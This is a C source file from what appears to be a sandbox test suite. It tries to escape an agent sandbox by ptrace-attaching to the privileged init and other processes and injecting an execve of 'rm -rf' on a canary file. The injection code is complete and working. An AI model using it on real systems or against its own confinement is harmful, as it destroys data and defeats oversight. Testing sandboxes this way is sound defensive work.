// attack: airlock: ptrace-attach every visible process (airlock's init first) and make it execve rm -rf the canary
// stopped by: seccomp(ptrace)
//
// The sandbox's pid 1 is airlock's init: it has every capability in the sandbox's user namespace
// and no seccomp filter. A process of the agent's that could ptrace it (or any process not under
// the filter) could make it do anything. The attack PTRACE_ATTACHes each visible pid in turn --
// pid 1, then the others, then a child of its own (the stand-in that makes the bare run do damage)
// -- and on the first that lets it, writes "syscall" at the stopped thread's pc, argv for
// /bin/rm -rf $CANARY below its stack pointer, and sets the registers for execve. Our own
// ancestors (the suite's wrapper shell) are skipped: hijacking them proves nothing about Airlock.
#define _GNU_SOURCE
#include "attack.h"
#include <signal.h>
#include <stdint.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>

static int poke(pid_t pid, uint64_t addr, const void *data, size_t len) {
    const unsigned char *p = data;
    for (size_t off = 0; off < len; off += 8) {
        uint64_t word = 0;
        errno = 0;
        if (len - off < 8) {
            word = ptrace(PTRACE_PEEKDATA, pid, (void *)(addr + off), NULL);
            if (errno) return -1;
        }
        memcpy(&word, p + off, len - off < 8 ? len - off : 8);
        if (ptrace(PTRACE_POKEDATA, pid, (void *)(addr + off), (void *)word) < 0) return -1;
    }
    return 0;
}

static int hijack(pid_t pid, const char *canary) {
    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0) {
        printf("ptrace(PTRACE_ATTACH, %d) -> %s\n", pid, strerrorname_np(errno));
        if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) {
            printf("ptrace(PTRACE_SEIZE, %d) -> %s\n", pid, strerrorname_np(errno));
            return -1;
        }
        ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
    }
    printf("ptrace attach %d -> OK\n", pid);
    int status;
    if (waitpid(pid, &status, __WALL) < 0) { printf("waitpid -> %s\n", strerrorname_np(errno)); return -1; }
    struct user_regs_struct regs;
    if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0) { printf("GETREGS -> %s\n", strerrorname_np(errno)); return -1; }
    // Lay out below the red zone: strings, then argv.
    uint64_t base = (regs.rsp - 4096) & ~15ULL;
    const char *path = "/bin/rm", *flag = "-rf";
    uint64_t a_path = base, a_flag = a_path + 16, a_canary = a_flag + 16;
    uint64_t a_argv = (a_canary + strlen(canary) + 1 + 15) & ~15ULL;
    uint64_t argv[4] = {a_path, a_flag, a_canary, 0};
    unsigned char syscall_insn[2] = {0x0f, 0x05};
    if (poke(pid, a_path, path, strlen(path) + 1) || poke(pid, a_flag, flag, strlen(flag) + 1) ||
        poke(pid, a_canary, canary, strlen(canary) + 1) || poke(pid, a_argv, argv, sizeof argv) ||
        poke(pid, regs.rip, syscall_insn, 2)) {
        printf("POKEDATA into %d -> %s\n", pid, strerrorname_np(errno));
        return -1;
    }
    regs.orig_rax = -1;  // no syscall restart
    regs.rax = 59;       // execve
    regs.rdi = a_path;
    regs.rsi = a_argv;
    regs.rdx = 0;
    if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) < 0) { printf("SETREGS -> %s\n", strerrorname_np(errno)); return -1; }
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    printf("pid %d now runs: /bin/rm -rf %s\n", pid, canary);
    return 0;
}

int main(void) {
    const char *canary = getenv("CANARY");
    if (!canary) { fprintf(stderr, "no CANARY\n"); return 2; }
    pid_t victim = fork();
    if (victim == 0) {
        for (;;) pause();
    }
    usleep(100 * 1000);
    pid_t targets[4096];
    int n = 0;
    targets[n++] = 1;
    n += other_pids(targets + n, 4095 - n, victim);
    targets[n++] = victim;
    pid_t done = 0;
    for (int i = 0; i < n && !done; i++) {
        if (targets[i] == getpid()) continue;  // bare: we are pid 1
        if (hijack(targets[i], canary) == 0) done = targets[i];
    }
    if (done) {
        int status;
        if (done == victim) waitpid(victim, &status, 0);
        else sleep(3);
        printf("hijacked pid %d; canary %s\n", done, access(canary, F_OK) == 0 ? "still there" : "gone");
    } else {
        printf("no process could be hijacked\n");
    }
    kill(victim, SIGKILL);
    return 0;
}
